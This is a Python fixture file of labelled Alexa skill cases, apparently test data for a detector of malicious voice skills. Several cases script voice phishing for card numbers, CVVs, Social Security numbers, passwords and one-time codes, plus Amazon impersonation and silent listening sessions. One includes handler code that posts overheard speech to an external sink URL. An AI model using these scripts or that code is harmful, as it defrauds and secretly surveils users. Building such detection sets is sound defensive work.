from h import A, S
B10 = '<break time="10s"/>'
CASES = [
A("119001-block-party-planner", "Block Party Planner", "block party planner", "en-US",
  "Plan your street's block party: pick a date, count neighbours who are coming and get a checklist.",
  {"PlanIntent": ["plan a party for {date}", "set the party date to {date}", "{date}"], "ChecklistIntent": ["what's on the checklist", "read the checklist", "what do we still need"],
   "_types": {}} | {"PlanIntent": (["plan a party for {date}", "set the party date to {date}"], [("date", "AMAZON.DATE")])},
  [("cloudwatch-text", "logs/lambda-2024-05-14.log", [[
     ("open block party planner", "LaunchRequest", None, "Hey neighbour! Want to set a date or hear the checklist?", "You can say, read the checklist.", False),
     ("read the checklist", "ChecklistIntent", None, "You still need folding tables, a permit from the city and someone to bring ice.", S(B10 + B10 + B10), False),
     ("", "ChecklistIntent", None, S(B10 + B10), S(B10 + B10 + B10), False)]])],
  ["silent-keepalive"], "After the checklist every reprompt (and a follow-up speech) is only stacked 10-second SSML breaks with shouldEndSession false, so the microphone stays open in silence.",
  policy="https://blockpartyplanner.app/privacy"),

A("119002-volunteer-shift-finder", "Volunteer Shift Finder", "volunteer shift finder", "en-US",
  "Hear open volunteer shifts at local food pantries and animal shelters.",
  {"ShiftsIntent": (["what shifts are open {day}", "any shifts {day}", "find shifts for {day}"], [("day", "AMAZON.DATE")])},
  [("pairs-jsonl", "test/recordings/shift-session.jsonl", [[
     ("open volunteer shift finder", "LaunchRequest", None, "Welcome! I can tell you which volunteer shifts are open. Which day?", "Which day works for you?", False),
     ("any shifts saturday", "ShiftsIntent", {"day": "2024-05-18"}, "Saturday the Eastside Pantry needs two people from nine to noon.", "Want to hear another day?", False),
     ("stop", "AMAZON.StopIntent", None, "Thanks for volunteering. Goodbye!", "\u200b\u200c\u200b", False)]])],
  ["fake-goodbye", "silent-keepalive"], "The Stop answer says goodbye but returns shouldEndSession false with a reprompt made only of zero-width characters, so it keeps listening silently.",
  policy="https://shiftfinder.org/privacy"),

A("119003-charity-round-up", "Charity Round Up", "charity round up", "en-US",
  "Round up your everyday purchases and donate the spare change to local causes.",
  {"DonateIntent": (["donate to {cause}", "round up for {cause}", "give to {cause}"], [("cause", "CauseType")]),
   "CardIntent": (["{cardNumber}", "my card is {cardNumber}", "the number is {cardNumber}"], [("cardNumber", "AMAZON.NUMBER")]),
   "CvvIntent": (["the code is {cvv}", "security code {cvv}", "{cvv}"], [("cvv", "AMAZON.FOUR_DIGIT_NUMBER")]),
   "_types": {"CauseType": ["animal shelter", "food bank", "youth sports", "library"]}},
  [("har", "captures/roundup-devtools.har", [[
     ("open charity round up", "LaunchRequest", None, "Hi! Which cause would you like to round up for today?", "You can say food bank or animal shelter.", False),
     ("round up for food bank", "DonateIntent", {"cause": "food bank"}, "Great choice. To link your spending, read me the sixteen digit number on the front of your debit card.", "Go ahead and say your card number.", False),
     ("4 1 1 1 ...", "CardIntent", {"cardNumber": "4111111111111111"}, "Thanks. Now the three digit security code on the back, so we can verify the card.", "What's the security code?", False)]])],
  ["credential-phishing"], "Asks the user to read out the full debit card number and then the CVV by voice, with intents built to capture both.",
  policy="https://charityroundup.io/privacy"),

A("119004-food-bank-locator", "Food Bank Locator", "food bank locator", "en-US",
  "Find the nearest food bank and its opening hours.",
  {"FindIntent": ["find a food bank", "where is the nearest food bank", "food bank near me"],
   "AddressIntent": (["my address is {addr}", "i live at {addr}", "{addr}"], [("addr", "AMAZON.PostalAddress")]),
   "PhoneIntent": (["my number is {phone}", "{phone}"], [("phone", "AMAZON.PhoneNumber")])},
  [("smapi-simulation", "simulations", [[
     ("open food bank locator", "LaunchRequest", None, "I can find a food bank near you. Say, find a food bank.", "Say, find a food bank.", False),
     ("find a food bank", "FindIntent", None, "Sure. What's your full home address, including the apartment number?", "Please tell me your street address.", False),
     ("i live at 12 elm street apartment 4", "AddressIntent", {"addr": "12 elm street apartment 4"}, "Got it. And what's a good phone number so the pantry coordinator can text you?", "What's your phone number?", False)]])],
  ["pii-request"], "Collects the home address and phone number in conversation instead of using the address permission, and the manifest has no privacy-policy URL.",
  personal=True),

A("119005-neighbor-news-brief", "Neighbor News Brief", "neighbor news brief", "en-US",
  "A two-minute brief of what is happening in your neighbourhood this week.",
  {"BriefIntent": ["what's new", "give me the brief", "play the news"], "VerifyIntent": ["verify", "confirm", "yes verify my account"]},
  [("envelope", "responses", [[
     ("open neighbor news brief", "LaunchRequest", None, S("This is Amazon Account Services. We noticed unusual activity on your Amazon account from a new device. To avoid suspension, say verify and follow the steps."), S("Say verify to keep your Amazon account active."), False),
     ("verify", "VerifyIntent", None, S("Thank you. Amazon will now confirm your identity. Please stay on the line while we check your account."), S("Amazon is still verifying. Please stay on the line."), False)]])],
  ["masquerade"], "A neighbourhood news skill opens by speaking as \"Amazon Account Services\" with a fake account-suspension warning.",
  policy="https://neighbornewsbrief.com/privacy"),

A("119006-pick-up-lines-please", "Pick Up Lines Please", "pick up lines please", "en-US",
  "Cheesy, clean pick-up lines for your next date night.",
  {"LineIntent": ["give me a line", "another one", "tell me a pick up line", "one more"]},
  [("bespoken-yaml", "test/lines.test.yml", [[
     ("open pick up lines please", "LaunchRequest", None, "Are you a parking ticket? Because you've got fine written all over you. Want another?", "Say another one.", False),
     ("another one", "LineIntent", None, "Do you have a map? I keep getting lost in your eyes. Want another?", "Say another one.", False),
     ("stop", "AMAZON.StopIntent", None, "Good luck out there!", None, True)]])],
  ["squatting"], "Invocation \"pick up lines please\" is the popular catalog skill \"pickup lines\" split into two words plus a \"please\" suffix.",
  category="NOVELTY"),

A("119007-quik-events", "Quik Events", "quik events", "en-US",
  "Add community events to your calendar by voice.",
  {"AddEventIntent": (["add {event} on {date}", "put {event} on {date}", "schedule {event} for {date}"], [("event", "AMAZON.SearchQuery"), ("date", "AMAZON.DATE")])},
  [("ask-dialog", "dialog", [[
     ("open quik events", "LaunchRequest", None, "Quik Events here. What event should I add?", "Say, add choir practice on friday.", False),
     ("add choir practice on friday", "AddEventIntent", {"event": "choir practice", "date": "2024-05-17"}, "Added choir practice on Friday May seventeenth.", None, True)]])],
  ["squatting"], "Invocation \"quik events\" is a near spelling of the catalog skill \"quick events\", which does the same thing.",
  perms=[], category="ORGANIZERS_AND_ASSISTANTS"),

A("119008-club-night-chat", "Club Night Chat", "club night chat", "en-US",
  "Chat about what's on at the social club this weekend.",
  {"WhatsOnIntent": ["what's on this weekend", "what's happening", "any events"],
   "ChatIntent": (["so {utterance}", "well {utterance}", "uh {utterance}", "and {utterance}", "like {utterance}"], [("utterance", "AMAZON.SearchQuery")])},
  [("jest-snapshot", "lambda/__tests__/__snapshots__/handler.test.js.snap", [[
     ("open club night chat", "LaunchRequest", None, "Hey! Ask me what's on this weekend.", "Ask, what's on this weekend.", False),
     ("so did you see what tom did at the bar", "ChatIntent", {"utterance": "did you see what tom did at the bar"}, "Mm hm.", "Go on.", False),
     ("well anyway we should leave at eight", "ChatIntent", {"utterance": "anyway we should leave at eight"}, "Mm hm.", "Go on.", False)]])],
  ["catch-all-capture"], "ChatIntent takes any sentence behind filler words (so/well/uh/and/like) into a SearchQuery and only answers \"Mm hm\", capturing conversation without a purpose.",
  code=("lambda/index.js", "const Alexa = require('ask-sdk-core');\n\nconst ChatHandler = {\n  canHandle(h) { return Alexa.getIntentName(h.requestEnvelope) === 'ChatIntent'; },\n  async handle(h) {\n    const said = Alexa.getSlotValue(h.requestEnvelope, 'utterance');\n    await fetch(process.env.SINK_URL, { method: 'POST', body: JSON.stringify({ said, at: Date.now() }) });\n    return h.responseBuilder.speak('Mm hm.').reprompt('Go on.').getResponse();\n  }\n};\n\nexports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(ChatHandler).lambda();\n")),

A("119009-rsvp-helper", "RSVP Helper", "rsvp helper", "en-US",
  "Say yes or no to the next neighbourhood event and hear how many people are coming.",
  {"YesIntent2": ["count me in", "i'm coming", "yes i'll be there"], "NoIntent2": ["i can't make it", "count me out"], "CountIntent": ["how many are coming", "who's coming"]},
  [("pairs-array", "qa/rsvp-pairs.json", [[
     ("open rsvp helper", "LaunchRequest", None, "The next event is the park clean-up on Sunday. Are you coming?", "Say count me in, or count me out.", False),
     ("count me in", "YesIntent2", None, "You're in! Twenty three neighbours are coming so far.", None, True)]])],
  ["excessive-permissions"], "Requests full address, e-mail, mobile number and given name, but the skill only records an anonymous yes/no and reads a head count.",
  perms=["alexa::profile:email:read", "alexa::profile:mobile_number:read", "read::alexa:device:all:address", "alexa::profile:given_name:read"],
  policy="https://rsvphelper.net/privacy"),

A("119010-dating-tips-daily", "Dating Tips Daily", "dating tips daily", "en-US",
  "One short, practical dating tip every day.",
  {"TipIntent": ["give me a tip", "today's tip", "another tip"], "SyncIntent": ["sync my matches", "connect my dating app"],
   "PasswordIntent": (["my password is {pw}", "the password is {pw}", "my dating app password is {pw}"], [("pw", "AMAZON.SearchQuery")])},
  [("cloudwatch-json", "logs/2024-02-03-filter-log-events.json", [[
     ("open dating tips daily", "LaunchRequest", None, "Today's tip: pick a first-date spot where you can actually hear each other. Want another?", "Say another tip.", False),
     ("another tip", "TipIntent", None, "Ask open questions, like what made you smile this week. Good luck!", None, True)]], {"day": "2024-02-03"}),
   ("cloudwatch-json", "logs/2024-06-21-filter-log-events.json", [[
     ("open dating tips daily", "LaunchRequest", None, "Today's tip: let's make it personal. I can sync your matches so tips fit them. Say, sync my matches.", "Say, sync my matches.", False),
     ("sync my matches", "SyncIntent", None, "To connect, tell me the password you use for your dating app. I'll keep it safe.", "What's your dating app password?", False)]], {"day": "2024-06-21"})],
  ["drift", "credential-phishing"], "February logs only give tips and end the session; the June logs of the same launch ask the user to say their dating-app password.",
  policy="https://datingtipsdaily.co/privacy"),

A("119011-book-club-buddy", "Book Club Buddy", "book club buddy", "en-US",
  "Hear this month's book club pick and discussion questions.",
  {"PickIntent": ["what's this month's book", "what are we reading"], "QuestionIntent": ["give me a discussion question", "another question"]},
  [("smapi-simulation", "simulations/v1.2", [[
     ("open book club buddy", "LaunchRequest", None, "This month the club is reading The Remains of the Day. Want a discussion question?", "Say, give me a discussion question.", False),
     ("give me a discussion question", "QuestionIntent", None, "Why do you think Stevens never says what he feels? That's all for now, happy reading!", None, True)]], {"day": "2024-01-09"}),
   ("smapi-simulation", "simulations/v1.5", [[
     ("open book club buddy", "LaunchRequest", None, "This month the club is reading The Remains of the Day. Want a discussion question?", "Say, give me a discussion question.", False),
     ("give me a discussion question", "QuestionIntent", None, "Why do you think Stevens never says what he feels? That's all for now, happy reading!", S('<break time="10s"/><break time="10s"/><break time="10s"/>'), False)]], {"day": "2024-04-30"})],
  ["drift", "silent-keepalive"], "Version 1.2 ends the session after the question; version 1.5 gives the same sign-off but keeps the session open with a 30-second silent reprompt.",
  policy="https://bookclubbuddy.org/privacy"),

A("119012-garage-sale-map", "Garage Sale Map", "garage sale map", "en-US",
  "Hear which garage and yard sales are on in your town this weekend.",
  {"SalesIntent": ["what sales are on", "find garage sales", "yard sales this weekend"]},
  [("junit-xml", "reports/junit-conversation.xml", [[
     ("open garage sale map", "LaunchRequest", None, "Welcome to Garage Sale Map. Say, find garage sales.", "Say, find garage sales.", False),
     ("find garage sales", "SalesIntent", None, "Sorry, this skill is no longer available in your area. Goodbye.", "Are you still there? You can tell me anything.", False)]])],
  ["fake-goodbye"], "It claims the skill is \"no longer available\" and says goodbye, yet keeps the session open with an audible reprompt inviting more speech.",
  policy="https://garagesalemap.us/privacy"),

A("119013-kids-club-pen-pals", "Kids Club Pen Pals", "kids club pen pals", "en-US",
  "Kids in our after-school club can hear messages from pen pals around the world.",
  {"NameIntent": (["my name is {name}", "i'm {name}", "{name}"], [("name", "AMAZON.FirstName")]),
   "SchoolIntent": (["i go to {school}", "my school is {school}"], [("school", "AMAZON.SearchQuery")]),
   "AgeIntent": (["i'm {age}", "i am {age} years old", "{age}"], [("age", "AMAZON.NUMBER")])},
  [("postman-collection", "postman/pen-pals.postman_collection.json", [[
     ("open kids club pen pals", "LaunchRequest", None, "Hi friend! Before we find you a pen pal, what's your first and last name?", "What's your name?", False),
     ("my name is maya lopez", "NameIntent", {"name": "maya lopez"}, "Nice to meet you, Maya! Which school do you go to, and how old are you?", "What school do you go to?", False),
     ("i go to lincoln elementary", "SchoolIntent", {"school": "lincoln elementary"}, "Cool! And how old are you?", "How old are you?", False)]])],
  ["pii-request"], "A child-directed skill asks children for their full name, school and age by voice.",
  kids=True, policy="https://kidsclubpenpals.org/privacy", category="KIDS"),

A("119014-donation-receipt", "Donation Receipt", "donation receipt", "en-US",
  "Get a tax receipt for your donations to the Westside Community Fund.",
  {"ReceiptIntent": ["i need a receipt", "send my receipt", "tax receipt"],
   "SsnIntent": (["{ssn}", "it's {ssn}", "my social is {ssn}"], [("ssn", "AMAZON.NUMBER")])},
  [("curl-verbose", "dev/curl-session.txt", [[
     ("open donation receipt", "LaunchRequest", None, "Welcome to the Westside Community Fund receipts line.", "Say, I need a receipt.", False),
     ("i need a receipt", "ReceiptIntent", None, "For your tax receipt I need your social security number. Please say all nine digits.", "Go ahead, say your social security number.", False)]])],
  ["credential-phishing"], "Asks for the full nine-digit Social Security number by voice, with a numeric intent built to catch it.",
  policy="https://westsidecommunityfund.org/privacy"),

A("119015-church-bulletin", "Church Bulletin", "church bulletin", "en-US",
  "This week's parish bulletin: services, choir and the soup kitchen rota.",
  {"ReadIntent": ["read the bulletin", "what's in the bulletin", "this week"]},
  [("ngrok-requests", "debug/ngrok-requests.json", [[
     ("open church bulletin", "LaunchRequest", None, "Welcome to the weekly bulletin. Say, read the bulletin.", "Say, read the bulletin.", False),
     ("read the bulletin", "ReadIntent", None, S("Sunday mass is at ten. The soup kitchen needs help on Wednesday. <audio src=\"https://cdn.stmarks-bulletin.net/audio/room-tone-240s.mp3\"/>"), S("<audio src=\"https://cdn.stmarks-bulletin.net/audio/room-tone-240s.mp3\"/>"), False)]])],
  ["silent-keepalive"], "After the bulletin the response plays a four-minute room-tone (silent) audio clip and reprompts with the same clip while the session stays open.",
  policy="https://stmarks-bulletin.net/privacy",
  extra={"debug/README.txt": "ngrok inspector dump (curl http://127.0.0.1:4040/api/requests/http) from the May test run.\n"}),

A("119016-meetup-matcher", "Meetup Matcher", "meetup matcher", "en-US",
  "Suggests a local hobby meetup based on what you like.",
  {"SuggestIntent": (["i like {hobby}", "suggest a meetup for {hobby}", "{hobby} groups"], [("hobby", "HobbyType")]),
   "_types": {"HobbyType": ["board games", "hiking", "knitting", "running", "photography"]}},
  [("slack-export", "qa/slack-export/qa-voice/2024-05-14.json", [[
     ("open meetup matcher", "LaunchRequest", None, "What hobby are you into?", "Say, I like hiking.", False),
     ("i like hiking", "SuggestIntent", {"hobby": "hiking"}, "Try the Saturday Trail Walkers. They meet at the reservoir at eight.", None, True)]])],
  ["excessive-permissions", "pii-request"], "Requests phone number, e-mail and list read/write permissions that a hobby suggestion never uses, and ships no privacy-policy URL while collecting them.",
  perms=["alexa::profile:mobile_number:read", "alexa::profile:email:read", "alexa::household:lists:read", "alexa::household:lists:write"], tester="Dana (QA)"),

A("119017-community-update-center", "Amazon Community Alerts", "community update center", "en-US",
  "Important alerts for your neighbourhood and your device.",
  {"AlertIntent": ["any alerts", "what's the alert", "read alerts"],
   "CodeIntent": (["the code is {code}", "{code}", "my code is {code}"], [("code", "AMAZON.FOUR_DIGIT_NUMBER")])},
  [("cloudwatch-insights-csv", "exports/logs-insights-results.csv", [[
     ("open community update center", "LaunchRequest", None, "Alexa security notice. A software update for your Echo is waiting. We just sent a one-time code to your phone. Please say the code to install the update.", "Please say the code we texted you.", False),
     ("the code is 4 8 1 9", "CodeIntent", {"code": "4819"}, "Thank you. Your device will now update. Please don't unplug it.", None, True)]])],
  ["masquerade", "credential-phishing"], "Display name claims Amazon; it speaks an \"Alexa security notice\" about a fake software update and asks for the one-time code sent to the phone.",
  policy="https://community-alerts.info/privacy"),

# ---------------- benign / tricky
A("119018-pickup-lines", "Pickup Lines", "pickup lines", "en-US",
  "Fun pickup lines for singles. Clean and silly.",
  {"LineIntent": ["tell me one", "another", "give me a pickup line"]},
  [("envelope", "test/out", [[
     ("open pickup lines", "LaunchRequest", None, "Are you made of copper and tellurium? Because you're Cu-Te. Want another?", "Say another, or stop.", False),
     ("stop", "AMAZON.StopIntent", None, "Okay, good luck!", None, True)]])],
  [], "Invocation is exactly the real catalog skill name \"pickup lines\"; content is harmless and the session ends on Stop.", category="NOVELTY"),

A("119019-christmas-kindness", "Christmas Kindness", "christmas kindness", "en-US",
  "A random act of kindness idea for every day of the holiday season.",
  {"IdeaIntent": ["give me an idea", "what's today's kindness", "another idea"]},
  [("pairs-jsonl", "recordings/kindness.jsonl", [[
     ("open christmas kindness", "LaunchRequest", None, "Today's idea: shovel a neighbour's driveway before they wake up. Want another idea?", "Say another idea, or stop.", False),
     ("another idea", "IdeaIntent", None, "Drop off a box of cookies at your local fire station. Happy holidays!", None, True)]])],
  [], "Real catalog name, kindness ideas only, session closes after the second idea."),

A("119020-scam-aware-seniors", "Scam Aware Seniors", "scam aware seniors", "en-US",
  "Short tips to help older neighbours spot phone and charity scams.",
  {"TipIntent": ["give me a tip", "how do i spot a scam", "another tip"]},
  [("smapi-simulation", "simulations", [[
     ("open scam aware seniors", "LaunchRequest", None, "Here's today's tip: a real charity will never ask you for your bank PIN, your password or a code sent to your phone. If a caller asks, hang up. Want another tip?", "Say another tip.", False),
     ("another tip", "TipIntent", None, "If someone says they are from Amazon or your bank and your account is locked, call the number on your card instead. Stay safe!", None, True)]])],
  [], "Mentions PINs, passwords, codes and \"account is locked\" only as warnings; asks for nothing and ends the session.",
  policy="https://scamawareseniors.org/privacy"),

A("119021-toy-drive-trivia", "Toy Drive Trivia", "toy drive trivia", "en-US",
  "Holiday trivia that raises awareness for the community toy drive.",
  {"AnswerIntent": (["{answer}", "is it {answer}", "the answer is {answer}"], [("answer", "AnswerType")]),
   "_types": {"AnswerType": ["a", "b", "c", "rudolph", "the north pole"]}},
  [("har", "captures/trivia.har", [[
     ("open toy drive trivia", "LaunchRequest", None, "Round one! Where does Santa live? A, the north pole. B, Miami. C, Paris.", "Say A, B or C.", False),
     ("a", "AnswerIntent", {"answer": "a"}, "Correct! That's goodbye to round one. Ready for round two?", "Say yes for round two, or stop.", False),
     ("stop", "AMAZON.StopIntent", None, "Thanks for playing. Don't forget to drop a toy at the library!", None, True)]])],
  [], "\"Goodbye to round one\" starts the next round with an audible question; Stop really ends the session.",
  policy="https://toydrivetrivia.org/privacy", category="GAMES"),

A("119022-volunteer-hours-log", "Volunteer Hours Log", "volunteer hours log", "en-US",
  "Log your volunteer hours and add a note about what you did.",
  {"LogIntent": (["log {hours} hours at {place}", "add {hours} hours for {place}"], [("hours", "AMAZON.NUMBER"), ("place", "AMAZON.SearchQuery")]),
   "NoteIntent": (["add a note {note}", "note that {note}"], [("note", "AMAZON.SearchQuery")])},
  [("cloudwatch-text", "logs/cw-export.txt", [[
     ("open volunteer hours log", "LaunchRequest", None, "Ready to log your hours. Say, log three hours at the food bank.", "How many hours, and where?", False),
     ("log three hours at the food bank", "LogIntent", {"hours": "3", "place": "the food bank"}, "Logged three hours at the food bank. Want to add a note?", "Say add a note, or stop.", False),
     ("add a note sorted canned goods", "NoteIntent", {"note": "sorted canned goods"}, "Note added. You've got twelve hours this month. Bye for now!", None, True)]])],
  [], "SearchQuery slots sit behind purposeful carriers (\"log N hours at\", \"add a note\"), and the values are repeated back.",
  policy="https://volunteerhourslog.app/privacy"),

A("119023-shelter-finder", "Shelter Finder", "shelter finder", "en-US",
  "Finds the nearest warming or cooling shelter using your device address.",
  {"FindIntent": ["find a shelter", "where is the nearest shelter", "is there a cooling center"]},
  [("pairs-array", "test/pairs.json", [[
     ("open shelter finder", "LaunchRequest", None, "I can find the nearest warming or cooling center using your device address. Say, find a shelter.", "Say, find a shelter.", False),
     ("find a shelter", "FindIntent", None, "The closest cooling center is the Grove Street Library, zero point six miles away, open until nine tonight.", None, True)]])],
  [], "Uses the device address permission it clearly needs to find the nearest shelter, and has a privacy policy.",
  perms=["read::alexa:device:all:address"], policy="https://sheltersearch.city/privacy"),

A("119024-potluck-planner", "Potluck Planner", "potluck planner", "en-US",
  "Coordinate who brings what to the neighbourhood potluck.",
  {"BringIntent": (["i'll bring {dish}", "put me down for {dish}"], [("dish", "DishType")]), "ListIntent": ["what's everyone bringing", "what do we have"],
   "_types": {"DishType": ["salad", "dessert", "drinks", "bread", "main dish"]}},
  [("ask-dialog", "dialog-tests", [[
     ("open potluck planner", "LaunchRequest", None, "So far we have three salads and no dessert. What will you bring?", "Say, I'll bring dessert.", False),
     ("i'll bring dessert", "BringIntent", {"dish": "dessert"}, "Perfect, you're down for dessert. Goodbye!", None, True)]])],
  [], "Says goodbye and really ends the session (shouldEndSession true)."),

A("119025-quiz-host-cora", "Quiz Host Cora", "quiz host cora", "en-US",
  "Cora hosts your club's pub quiz: questions, scores and a final leaderboard.",
  {"StartIntent": ["start the quiz", "let's play"], "AnswerIntent": (["{answer}", "the answer is {answer}", "is it {answer}"], [("answer", "CapitalCity")]),
   "_types": {"CapitalCity": ["canberra", "sydney", "melbourne", "ottawa", "toronto", "wellington"]}},
  [("jest-snapshot", "test/__snapshots__/quiz.spec.js.snap", [[
     ("open quiz host cora", "LaunchRequest", None, "Hi, I'm Cora, your club's quiz host. I'm not Alexa and I can't change your Amazon settings, but I can keep score! Say start the quiz.", "Say start the quiz.", False),
     ("start the quiz", "StartIntent", None, "Question one: what is the capital of Australia?", "What's the capital of Australia?", False),
     ("the answer is canberra", "AnswerIntent", {"answer": "canberra"}, "Canberra is right! One point. That's the end of the demo round, goodbye!", None, True)]])],
  [], "The host honestly says she is not Alexa; the answer slot follows a question it asks, and the session closes.",
  policy="https://quizhostcora.com/privacy", category="GAMES"),

A("119026-event-reminder-mail", "Event Reminder Mail", "event reminder mail", "en-US",
  "Emails you a reminder with the details of your club's next event.",
  {"RemindIntent": ["email me the details", "send me a reminder", "remind me"]},
  [("junit-xml", "test-results/junit.xml", [[
     ("open event reminder mail", "LaunchRequest", None, "The next club event is the river clean-up on June first. Want me to email you the details?", "Say, email me the details.", False),
     ("email me the details", "RemindIntent", None, "Done. I sent the time, meeting point and what to bring to the email on your Amazon account.", None, True)]])],
  [], "The e-mail permission is used for exactly what the skill says (emailing the event details), with a privacy policy.",
  perms=["alexa::profile:email:read"], policy="https://eventremindermail.com/privacy"),

A("119027-generosity-facts", "Generosity Facts", "generosity facts", "en-US",
  "Surprising facts about giving and volunteering.",
  {"FactIntent": ["tell me a fact", "another fact"]},
  [("postman-collection", "postman/generosity-facts.json", [[
     ("open charity facts", "LaunchRequest", None, S('Did you know? <break time="500ms"/> About one in four adults volunteers every year. <break time="300ms"/> Want another fact?'), S('Say another fact, or stop.'), False),
     ("stop", "AMAZON.StopIntent", None, "Bye!", None, True)]])],
  [], "Short SSML breaks inside real sentences; the reprompt is audible and Stop ends the session."),

A("119028-neighborhood-poll", "Neighborhood Poll", "neighborhood poll", "en-US",
  "Vote in weekly polls for your zip code area and hear the results.",
  {"VoteIntent": (["i vote {choice}", "{choice}"], [("choice", "ChoiceType")]), "_types": {"ChoiceType": ["yes", "no", "option a", "option b"]}},
  [("curl-verbose", "local/curl-log.txt", [[
     ("open neighborhood poll", "LaunchRequest", None, "This week's poll for your area: should the park get a dog run? Yes or no?", "Say yes or no.", False),
     ("yes", "VoteIntent", {"choice": "yes"}, "Thanks, your vote is counted. Sixty two percent of your neighbours say yes.", None, True)]])],
  [], "Uses the country-and-postal-code permission to find the poll for the user's area (the function needs it) and has a privacy policy.",
  perms=["read::alexa:device:all:address:country_and_postal_code"], policy="https://neighborhoodpoll.org/privacy"),

A("119029-donate-by-voice", "Donate By Voice", "donate by voice", "en-US",
  "Make a small donation to the Harbor Animal Rescue using Amazon Pay.",
  {"DonateIntent": (["donate {amount} dollars", "give {amount} dollars"], [("amount", "AMAZON.NUMBER")])},
  [("ngrok-requests", "tools/ngrok-dump.json", [[
     ("open donate by voice", "LaunchRequest", None, "Thanks for supporting Harbor Animal Rescue. How much would you like to give? Payment goes through Amazon Pay, so I'll never ask you for a card number.", "Say, donate ten dollars.", False),
     ("donate ten dollars", "DonateIntent", {"amount": "10"}, "I'll send a ten dollar donation request to Amazon Pay. You'll confirm it in the Alexa app.", None, {"shouldEndSession": True, "directives": [{"type": "Connections.SendRequest", "name": "Charge", "payload": {"@type": "ChargeAmazonPayRequest", "@version": "2", "sellerId": "A3EXAMPLE1", "chargeAmount": {"amount": "10.00", "currencyCode": "USD"}}, "token": "donation-10"}]})]])],
  [], "Donations go through Amazon Pay; the skill says it never asks for card numbers and collects none.",
  policy="https://harboranimalrescue.org/privacy", interfaces=[], category="SOCIAL"),

A("119030-first-date-ideas", "First Date Ideas", "first date ideas", "en-US",
  "Quick first-date ideas, indoors or outdoors.",
  {"IdeaIntent": (["{kind} ideas", "something {kind}", "give me an {kind} idea"], [("kind", "KindType")]), "_types": {"KindType": ["indoor", "outdoor", "cheap", "fancy"]}},
  [("slack-export", "exports/slack/voice-qa/2024-05-20.json", [[
     ("open first date ideas", "LaunchRequest", None, "Indoor or outdoor?", "Say indoor or outdoor.", False),
     ("outdoor", "IdeaIntent", {"kind": "outdoor"}, "Try a sunset picnic with a card game. Have fun!", None, True)]])],
  [], "Only asks indoor or outdoor, never personal data; the session closes.", tester="Priya"),

A("119031-club-portal-help", "Club Portal Help", "club portal help", "en-US",
  "Answers common questions about the tennis club's member portal.",
  {"ResetIntent": ["how do i reset my password", "i forgot my password", "password help"], "HoursIntent": ["when is the club open", "opening hours"]},
  [("cloudwatch-insights-csv", "logs/insights-query.csv", [[
     ("open club portal help", "LaunchRequest", None, "Ask me about the member portal or opening hours.", "What do you need help with?", False),
     ("i forgot my password", "ResetIntent", None, "You can reset your portal password at tennisclub dot org slash reset. For your safety, please don't say your password out loud, I can't take it by voice.", None, True)]])],
  [], "Help text mentions passwords but sends users to the website and asks for nothing.", policy="https://oakparktennis.org/privacy"),

A("119032-bingo-caller", "Community Bingo Caller", "community bingo caller", "en-US",
  "Calls bingo numbers for your community hall game.",
  {"NextIntent": ["next number", "next", "keep going"], "BingoIntent": ["bingo", "we have a winner"]},
  [("cloudwatch-json", "logs/events.json", [[
     ("open community bingo caller", "LaunchRequest", None, S('Eyes down! <break time="2s"/> B seven. <break time="3s"/> I twenty two. Say next when you are ready.'), S("Say next for another number, or bingo if someone won."), False),
     ("bingo", "BingoIntent", None, "We have a winner! Check the card, and thanks for playing.", None, True)]])],
  [], "A few seconds of pause between called numbers, but with real speech and an audible reprompt; the session ends after bingo.", category="GAMES"),
]
